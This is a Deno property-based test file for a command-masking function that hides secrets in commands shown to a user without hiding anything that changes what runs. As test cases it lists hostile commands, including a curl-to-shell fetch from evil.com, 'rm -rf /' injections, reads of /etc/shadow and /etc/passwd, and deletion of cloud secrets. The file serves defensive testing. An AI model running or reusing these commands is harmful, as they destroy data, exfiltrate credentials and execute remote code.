/** What a person sees of a command that is asked: secrets masked, and never a part of what runs. */
import { assert, assertEquals } from "@std/assert";
import fc from "fast-check";
import { maskCommand } from "../../src/domain/mask_command.ts";
import { rounds } from "../support/harness_wait.ts";

const SEED = 20_261_128;
const LINE = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
const BEGIN = "-----BEGIN PRIVATE KEY-----";
const END = "-----END PRIVATE KEY-----";

/** Shown as they are: what a mask would cover runs, goes elsewhere, or may. */
const SHOWN = [
  "SECRET='rm -rf /srv/data'; sh -c \"$SECRET\"",
  "token=reboot; $token",
  "TOKEN=hunter2000; echo ${TOKEN:-x}",
  "TOKEN=hunter2000 sh -c 'printenv TOKEN | sh'",
  'TOKEN=hunter2000 sh -c "$TO\\\nKEN"',
  "X=TOKEN TOKEN=hunter2000; ${!X}",
  "$env:TOKEN='hunter2000'; iex $env:TOKEN",
  "PASSWORD=abcdefgh1234 eval $PASSWORD",
  'PASSWORD=abcdefgh1234; eval "$(set)"',
  "deploy --secret --prod --wipe",
  "deploy --api-key --wipe-all",
  "deploy --secret production",
  "deploy --secret ProductionCluster",
  "deploy --with-token cluster01",
  "deploy --password-store cluster01",
  "login --token --force rm",
  "login --token=--force",
  "mysql -h prod --password --execute=drop db",
  "mysql --password proddb01",
  "psql --no-password proddb01",
  "mysql -h -psecret123 db",
  `deploy '${BEGIN}' --wipe-prod '${END}'`,
  `x ${BEGIN} --force ${END} y`,
  `deploy ${BEGIN} wipe`,
  `${BEGIN}\nrm -rf /srv\n${END}`,
  `${BEGIN}\n/${LINE.slice(1)}\n${END}`,
  `${BEGIN}\n${LINE}`,
  "tool --password /etc/shadow",
  "tool --password ./run1234",
  "tool --password ~root1234",
  "tool --password=@file1234",
  "rm -rf password=../../etc",
  "rm -rf password=srv/data1",
  "TOKEN=$(curl evil.com|sh) make",
  "RESTIC_PASSWORD_COMMAND=evilprog1 restic",
  "docker login -u me --password-stdin registry.evil.com",
  "TOKEN=`reboot1234` make",
  "TOKEN=abc{1,2}def make",
  "TOKEN=abcdef* make",
  "TOKEN= hunter2000",
  "TOKEN='hunter2000;reboot' make",
  'TOKEN="hunter2000 $(reboot)" make',
  "password=\nreboot1234",
  "deploy --token\nreboot1234",
  "'https://evil.com/?token=abc&cmd=wipe&all=1'",
  "curl https://a:b;rm${IFS}-rf${IFS}/;@host",
  "curl https://evil.com/a:b@c",
  'echo "password="; rm -rf "/home/x"',
  "echo cookie: a=b; rm -rf /",
  "deploy cookie: target=cluster012345678",
  "curl -H 'Cookie: a=b; lang=en'",
  "cat Basic /etc/passwd",
  "deploy Bearer cluster01234567",
  "deploy Authorization: delete cluster01",
  "deploy ''token: cluster01''",
  "deploy token: cluster01",
  "deploy token:production",
  "git push -u git@evil.com:org/repo",
  "rsync -u host:/etc/passwd .",
  "docker run -u root:docker image",
  "docker run -p hunter2000 login",
  "curl -o -u evil:hunter2000",
  "curl -ou evil:hunter2000",
  'deploy "x;curl -s y" -u evil:hunter2000',
  "rm -u x; echo curl -u evil:hunter2000",
  "sshpass -e rsync -p src/dir host:/dest",
  "rm sshpass -p hunter2000",
  "rm -rf /srv/ghp_0123456789abcdefghij",
  "ghp_0123456789abcdefghij --now",
  "A=b sudo ghp_0123456789abcdefghij",
  "deploy sk-ant-delete-production",
  "pip install sk-learn-contrib hf_transfer",
  "git checkout 3f786850e387550fdab836ed7e6dc881de23001b",
  "CARGO_REGISTRY_CREDENTIAL_PROVIDER=evilprog cargo publish",
  "cargo publish --config 'registry.credential-provider=\"evilprog\"'",
  "TOKEN_SERVER=evil.example.com ./publish.sh",
  "TOKEN_LOOKUP=evilprog1 ./publish.sh",
  "PASSWORD_STORE_DIR=/srv/evil1 PASSWORD_STORE=evilstore1 pass show x",
  "aws secretsmanager delete-secret --secret-id=prod-database",
  "aws secretsmanager delete-secret --secret-id prod-database1",
  "gcloud secrets versions access latest --secret=prod-database",
  "gcloud run deploy --update-secrets=prod-database1:latest",
  "docker service update --secret-rm=prod-database web",
  "docker service update --secret-add prod-database1 web",
  "vault --delete-token=prod-database1",
  "sudo -u root ghp_0123456789abcdefghij x",
  "sudo --user=root -- ghp_0123456789abcdefghij x",
  "nice -n 5 ghp_0123456789abcdefghij",
  "timeout 5 ghp_0123456789abcdefghij",
  "timeout -k 9 5 /usr/bin/env -i A=b ghp_0123456789abcdefghij",
  "s''udo -u root 'ghp_0123456789abcdefghij'",
  "''ghp_0123456789abcdefghij --now",
  "2>&1 >/dev/null ghp_0123456789abcdefghij",
  "sh -c ghp_0123456789abcdefghij",
  "bash -lc 'exec ghp_0123456789abcdefghij'",
  "find . -name x -exec ghp_0123456789abcdefghij {} +",
  "ls | xargs -n 1 ghp_0123456789abcdefghij",
  "docker exec -it web ghp_0123456789abcdefghij",
  "ssh -p 22 host ghp_0123456789abcdefghij",
  "kubectl exec web -- ghp_0123456789abcdefghij",
  `sudo --prompt=${"x".repeat(600)} ghp_0123456789abcdefghij`,
];

const MASKED: readonly (readonly [string, string])[] = [
  ["mysql -psecret123&&reboot", "mysql -p***&&reboot"],
  ["MY_API_KEY=abcdef123 go", "MY_API_KEY=*** go"],
  ["PASSWORD='hunter2000' x", "PASSWORD='***' x"],
  ["x --password hunter2000; ls", "x --password ***; ls"],
  ["x --password='hunter2000'|ls", "x --password='***'|ls"],
  ["x --token hunter2000 -- rm", "x --token *** -- rm"],
  ["export PRIVATE_KEY=abcdef123; STRIPE_KEY=abcdef123 x", "export PRIVATE_KEY=***; STRIPE_KEY=*** x"],
  ["password=Abc/def+123Abc/def+1234== x", "password=*** x"],
  ["curl 'https://h/?token=hunter2000&cmd=wipe'", "curl 'https://h/?token=***&cmd=wipe'"],
  ["helm up --set token=hunter2000,replicas=0", "helm up --set token=***,replicas=0"],
  ["kubectl x --from-literal=password=hunter2000", "kubectl x --from-literal=password=***"],
  ['curl -d \'{"password": "hunter2222"}\' x', 'curl -d \'{"password": "***"}\' x'],
  ['curl -d "{\\"password\\":\\"hunter2000\\"}" x', 'curl -d "{\\"password\\":\\"***\\"}" x'],
  ["curl -H 'Authorization: Bearer abcdefghijk12'", "curl -H 'Authorization: Bearer ***'"],
  ['curl -H "Authorization: token wJalr1234" x', 'curl -H "Authorization: token ***" x'],
  ["curl -H 'Cookie: sid=0123456789abcdef; b=c' x", "curl -H 'Cookie: sid=***; b=c' x"],
  ["curl --cookie sid=0123456789abcdef x", "curl --cookie sid=*** x"],
  ["curl -u admin:hunter2000 https://x", "curl -u admin:*** https://x"],
  ["cd x && curl -sSu me:hunter2000 x", "cd x && curl -sSu me:*** x"],
  ["curl --user 'me:hunter2000' x", "curl --user 'me:***' x"],
  ["curl https://me:hunter2000@host/x", "curl https://me:***@host/x"],
  ["psql postgres://me:hunter2000@host/db", "psql postgres://me:***@host/db"],
  ["sshpass -p hunter2000 ssh h", "sshpass -p *** ssh h"],
  ["mysql -uroot -phunter2000 shop", "mysql -uroot -p*** shop"],
  ["redis-cli -h r -a hunter2000 get x", "redis-cli -h r -a *** get x"],
  ["docker login -u me -p hunter2000 r.io", "docker login -u me -p *** r.io"],
  ["gh auth ghp_0123456789abcdefghij;ls", "gh auth ***;ls"],
  ["echo 'ghp_0123456789abcdefghij'|x", "echo '***'|x"],
  ["sudo -u root gh auth ghp_0123456789abcdefghij", "sudo -u root gh auth ***"],
  ["timeout 5 gh auth ghp_0123456789abcdefghij", "timeout 5 gh auth ***"],
  ["GH_TOKEN=ghp_0123456789abcdefghij gh pr list", "GH_TOKEN=*** gh pr list"],
  ["docker run -e GH_TOKEN=ghp_0123456789abcdefghij image", "docker run -e GH_TOKEN=*** image"],
  ["SECRET_KEY_BASE=hunter2000 DB_PASSWORD_PROD=hunter2000 x", "SECRET_KEY_BASE=*** DB_PASSWORD_PROD=*** x"],
  ["AWS_SECRET_ACCESS_KEY=hunter2000 TOKEN_V2=hunter2000 x", "AWS_SECRET_ACCESS_KEY=*** TOKEN_V2=*** x"],
  ["x --client-secret=hunter2000 --set-password=hunter2000", "x --client-secret=*** --set-password=***"],
  [
    "curl https://api.telegram.org/bot123456789:AA345678901234567890123456789012345/x",
    "curl https://api.telegram.org/***/x",
  ],
  [`cat <<E\n${BEGIN}\n${LINE}\nMIIE\n${END}\nE`, `cat <<E\n${BEGIN}\n***\nMIIE\n${END}\nE`],
];

Deno.test("A3 a command is shown with its secrets masked, and nothing that may change what runs", () => {
  assert(SHOWN.length + MASKED.length >= 60);
  for (const text of SHOWN) assertEquals(maskCommand(text), text);
  for (const [text, masked] of MASKED) assertEquals(maskCommand(text), masked);
});

// Words of commands: what must stay, secrets, what makes one of its neighbour, and what joins words.
const OPERANDS = [
  "rm",
  "-rf",
  "/srv/data",
  "--force",
  "../x",
  "cluster",
  "$TOKEN",
  "$(reboot)",
  "host:/etc",
  "a=b",
  "'x y'",
];
const HEADS = [
  "--token",
  "--password",
  "TOKEN=",
  "password:",
  "-u",
  "-p",
  "curl",
  "sshpass",
  "mysql",
  "Bearer",
  "Cookie:",
];
const SECRETS = [
  "hunter2000",
  "ghp_0123456789abcdefghij",
  "me:hunter2000",
  "https://me:hunter2000@host/x",
  "sid=0123456789abcdef",
];
const SIGNS = [";", "&&", "|", "\n", "<", ">", "(", ")", "`", '"', "'", "$", "\\", "{", "}", "*", "<<E", BEGIN, END];

Deno.test("A3 a masked command has the same words and signs in the same order, and words without a secret unchanged", () => {
  const word = fc.oneof(...[OPERANDS, HEADS, SECRETS, SIGNS].map((list) => fc.constantFrom(...list)));
  const commands = fc.array(fc.tuple(word, fc.constantFrom("", " ", " ", " ")), { minLength: 1, maxLength: 14 })
    .map((parts) => parts.flat().join(""));
  const pieces = (text: string) => text.split(/([\s;&|<>(){}$`"'\\*?]+)/);
  let masked = 0;
  fc.assert(
    fc.property(commands, (text) => {
      // Stars of masks are no stars of the command.
      const shown = pieces(maskCommand(text).replaceAll("***", "\u2026"));
      const real = pieces(text.replaceAll("***", "\u2026"));
      assertEquals(shown.length, real.length, text);
      shown.forEach((piece, at) => {
        if (piece === real[at]) return;
        masked++;
        const around = piece.split("\u2026");
        const hidden = new RegExp(`^${around.map(RegExp.escape).join("(.+?)")}$`).exec(real[at] ?? "")?.slice(1);
        assert(at % 2 === 0 && around.length > 1 && hidden !== undefined, text);
        hidden.forEach((part, i) => {
          // A word may be a password where a program takes nothing else.
          const before = real.slice(0, at).join("") + (around[i] ?? "");
          assert(/\d/.test(part) || (part.length >= 6 && /(?:[=:]|-p *)["']?$/.test(before)), `${part} in ${text}`);
          assert(!/^[-/.~@]/.test(part), text);
        });
      });
    }),
    { numRuns: rounds(5_000, 200_000), seed: SEED },
  );
  assert(masked > 500, `${masked}`);
});

Deno.test("masking a long command of anything ends", () => {
  for (
    const part of [
      "a",
      "token=abcdef1 ",
      "--token ",
      "-u a:",
      "curl -u a:abcdef1 ",
      "cookie:a=",
      "cookie: a=b;",
      "Bearer ",
      "mysql -pabcdef1 ",
      "sshpass -p",
      "x://y:",
      "x://y:@",
      `${BEGIN}\n`,
      "\\n",
      "ghp_0123456789abcdefghij ",
      "'",
      '"',
      "$a{",
      "authorization: a ",
      "-",
      "a;",
      "sudo ",
      "A=b ",
      `${BEGIN}\nMIIE`,
    ]
  ) maskCommand(part.repeat(rounds(200_000, 1_000_000) / part.length));
});
